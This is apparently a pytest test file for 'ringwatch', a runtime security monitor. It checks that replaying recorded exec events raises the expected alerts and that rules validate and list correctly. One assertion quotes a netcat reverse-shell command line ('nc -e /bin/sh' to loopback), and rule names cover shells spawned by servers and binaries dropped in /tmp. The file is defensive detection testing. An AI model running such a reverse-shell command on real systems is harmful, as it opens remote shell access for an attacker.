"""`ringwatch replay` and `ringwatch rules validate|list` as commands, on the recorded fixture."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.monitor_proc import REPO
from tests.rules_util import EXEC_RULES

FIXTURE = REPO / "tests" / "fixtures" / "exec_events.jsonl"
NOBODY = 65534
EXEC_ONLY = ("--no-default-rules", "--rules", str(EXEC_RULES))


def ringwatch(*args: str, user: int | None = None) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "monitor", *args]
    if user is not None:
        # Replay needs neither root nor a kernel: prove it by dropping to nobody.
        cmd = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *cmd]
    # Hermetic: no /etc/ringwatch/rules.d; tests pass --no-default-rules and the exec ruleset.
    env = {**os.environ, "HOME": "/", "RINGWATCH_RULES_D": "/nonexistent/rules.d"}
    return subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, env=env, timeout=120, check=False)


def alerts_of(stdout: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in stdout.splitlines()]


@pytest.mark.usefixtures("repo_reachable_by_others")
def test_replay_recorded_fixture_with_the_frozen_exec_ruleset_as_nobody() -> None:
    """The engine on a frozen copy of the first exec ruleset (tests/fixtures/exec_rules.yaml)."""
    res = ringwatch("replay", str(FIXTURE), *EXEC_ONLY, user=NOBODY)
    assert res.returncode == 0, res.stderr
    alerts = alerts_of(res.stdout)
    by_rule = {a["rule"]: a for a in alerts}
    assert sorted(by_rule) == sorted(
        [
            "Shell spawned by a server process",
            "Execution from a temporary directory",
            "System user runs an interactive shell",
            "Netcat remote code execution",
        ]
    )
    assert len(alerts) == 4
    assert by_rule["Netcat remote code execution"]["priority"] == "CRITICAL"
    assert "cmdline=nc -e /bin/sh 127.0.0.1 9" in str(by_rule["Netcat remote code execution"]["output"])
    shell = by_rule["Shell spawned by a server process"]
    assert "shell=sh" in str(shell["output"]) and "parent=nginx" in str(shell["output"])
    assert shell["ancestors"][0]["name"] == "nginx"  # type: ignore[index]
    assert "uid=33" in str(by_rule["System user runs an interactive shell"]["output"])
    assert by_rule["Execution from a temporary directory"]["event"]["proc.exe"] == "/tmp/rwfix-dropper"  # type: ignore[index]
    assert "replayed 23 events from 23 lines: 4 alerts, 0 malformed lines skipped" in res.stderr


@pytest.mark.usefixtures("repo_reachable_by_others")
def test_replay_recorded_fixture_with_the_packaged_default_rules_as_nobody() -> None:
    """The real rules/default.yaml, as `ringwatch replay` loads it with no flags: the four
    attacks in the recording alert under the default rules too, and nothing else does
    (`ls /`, `sh -c "echo benign"`, the shell's own forks and exits stay quiet)."""
    res = ringwatch("replay", str(FIXTURE), user=NOBODY)
    assert res.returncode == 0, res.stderr
    alerts = alerts_of(res.stdout)
    assert sorted(a["rule"] for a in alerts) == sorted([
        "Shell spawned by a server process",
        "Drop and execute new binary",
        "System user runs an interactive shell",
        "Netcat remote code execution",
    ])
    by_rule = {a["rule"]: a for a in alerts}
    assert by_rule["Drop and execute new binary"]["event"]["proc.exe"] == "/tmp/rwfix-dropper"  # type: ignore[index]
    assert by_rule["Shell spawned by a server process"]["ancestors"][0]["name"] == "nginx"  # type: ignore[index]
    assert "replayed 23 events from 23 lines: 4 alerts" in res.stderr


def test_replay_skips_and_counts_malformed_lines(tmp_path: Path) -> None:
    lines = FIXTURE.read_text().splitlines()
    bad = tmp_path / "events.jsonl"
    bad.write_text("\n".join([lines[0], "{not json", "[1, 2]", *lines[1:], '{"evt.type": "exec']) + "\n")
    res = ringwatch("replay", str(bad), *EXEC_ONLY)
    assert res.returncode == 0, res.stderr
    assert f"{bad}:2: skipped malformed event: not JSON" in res.stderr
    assert f"{bad}:3: skipped malformed event: expected a JSON object, got list" in res.stderr
    assert f"{bad}:{len(lines) + 3}: skipped malformed event: not JSON" in res.stderr
    assert (
        f"replayed 23 events from {len(lines) + 3} lines: 4 alerts, 3 malformed lines skipped" in res.stderr
    )
    assert len(alerts_of(res.stdout)) == 4


def test_replay_with_extra_rules_and_without_defaults(tmp_path: Path) -> None:
    extra = tmp_path / "mine.yaml"
    extra.write_text(
        '- rule: any ls\n  condition: proc.name == "ls"\n  output: "%evt.type %proc.cmdline"\n'
        "  priority: DEBUG\n"
    )
    res = ringwatch("replay", str(FIXTURE), "--rules", str(extra), "--no-default-rules")
    assert res.returncode == 0, res.stderr
    # Not constrained by type: the exec and the exit of `ls /` both match.
    assert [(a["rule"], a["output"]) for a in alerts_of(res.stdout)] == [
        ("any ls", "execve ls /"),
        ("any ls", "exit ls /"),
    ]


def test_validate_lists_every_error_and_fails(tmp_path: Path) -> None:
    good = tmp_path / "good.yaml"
    good.write_text("- rule: Netcat remote code execution\n  enabled: false\n")
    res = ringwatch("rules", "validate", "--no-default-rules", str(EXEC_RULES), str(good))
    assert res.returncode == 0, res.stderr
    assert res.stdout.startswith("ok: 4 rules from 2 file(s)")
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "- rule: a\n  condition: proc.nam == 1\n  output: o\n  priority: INFO\n"
        "- rule: b\n  condition: evt.type == 'x'\n  output: o\n  priority: SEVERE\n"
    )
    res = ringwatch("rules", "validate", "--no-default-rules", str(EXEC_RULES), str(good), str(bad))
    assert res.returncode == 1
    assert f"{bad}:2:14: rule 'a': unknown field 'proc.nam'" in res.stderr
    assert f"{bad}:8:13: rule 'b': priority: 'SEVERE' is not one of" in res.stderr
    assert "2 error(s) in rules" in res.stderr


def test_rules_list(tmp_path: Path) -> None:
    off = tmp_path / "off.yaml"
    off.write_text("- rule: Netcat remote code execution\n  enabled: false\n")
    res = ringwatch("rules", "list", "--json", *EXEC_ONLY, "--rules", str(off))
    assert res.returncode == 0, res.stderr
    rows = {r["name"]: r for r in alerts_of(res.stdout)}
    assert rows["Netcat remote code execution"]["enabled"] is False
    assert rows["Netcat remote code execution"]["priority"] == "CRITICAL"
    assert rows["Shell spawned by a server process"]["event_types"] == ["execve", "execveat"]
    assert rows["Shell spawned by a server process"]["tags"] == ["process", "mitre_execution", "T1505.003"]
    table = ringwatch("rules", "list", *EXEC_ONLY)
    assert table.returncode == 0
    assert table.stdout.splitlines()[0].split() == [
        "NAME",
        "PRIORITY",
        "ENABLED",
        "ACTION",
        "EVENT",
        "TYPES",
        "TAGS",
    ]
    assert len(table.stdout.splitlines()) == 5


def test_rules_fields_prints_every_field_with_its_type() -> None:
    """Expected rows are written out here and read from the packaged ruleset's text, not
    taken from the catalogue the command prints from."""
    import re

    res = ringwatch("rules", "fields")
    assert res.returncode == 0, res.stderr
    rows = {line.split()[0]: line.split()[1] for line in res.stdout.splitlines()}
    assert len(rows) == len(res.stdout.splitlines()), "a field listed twice"
    expected = {"evt.type": "str", "evt.failed": "bool", "evt.res": "str", "evt.rawres": "int",
                "proc.name": "str",
                "proc.pid": "int", "proc.aname": "list", "proc.argv": "list", "fd.name": "str",
                "fd.rport": "int", "user.uid": "int", "evt.arg.request": "str", "evt.arg.cmd": "str",
                "enforce.rule": "str"}
    assert expected.items() <= rows.items()
    text = (REPO / "rules" / "default.yaml").read_text()
    # A path such as /etc/systemd/user.conf.d/ is not a field name.
    field_like = r"(?<![/\w.-])(?:evt|proc|fd|user|group|cgroup)\.[a-z_.]+"
    named = {m.rstrip(".") for m in re.findall(field_like, text)}
    assert named - set(rows) == set()


def test_a_closed_pipe_is_not_a_traceback() -> None:
    """`ringwatch rules fields | head -1`: the reader leaves early; the writer exits quietly."""
    proc = subprocess.run(f"{sys.executable} -m monitor rules fields | head -1", shell=True, cwd=REPO,
                          capture_output=True, text=True, timeout=60, check=False)
    assert proc.stdout.count("\n") == 1
    assert "Traceback" not in proc.stderr, proc.stderr


def test_run_refuses_bad_rules_before_touching_the_kernel(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- rule: a\n  condition: proc.nam == 1\n  output: o\n  priority: INFO\n")
    cfg = tmp_path / "config.yaml"
    cfg.write_text("{}\n")
    res = ringwatch("run", "--config", str(cfg), *EXEC_ONLY, "--rules", str(bad), "--duration", "1")
    assert res.returncode == 2
    assert "ringwatch: 1 error in rules:" in res.stderr
    assert f"{bad}:2:14: rule 'a': unknown field 'proc.nam'" in res.stderr
    assert res.stdout == ""


def test_the_field_table_in_docs_is_the_catalogues() -> None:
    """docs/FIELDS.md is generated (`ringwatch rules fields --markdown`); adding a field
    without regenerating it fails here."""
    from monitor.cli import fields_markdown
    from monitor.events.catalog import FIELDS

    text = (REPO / "docs" / "FIELDS.md").read_text()
    assert text == fields_markdown(), "stale: ringwatch rules fields --markdown > docs/FIELDS.md"
    rows = [line for line in text.splitlines() if line.startswith("| `")]
    assert [row.split("`")[1] for row in rows] == list(FIELDS)
    row = {r.split("`")[1]: r for r in rows}
    assert "| yes |" in row["proc.aname"] and "| - |" in row["proc.is_name_exe"]
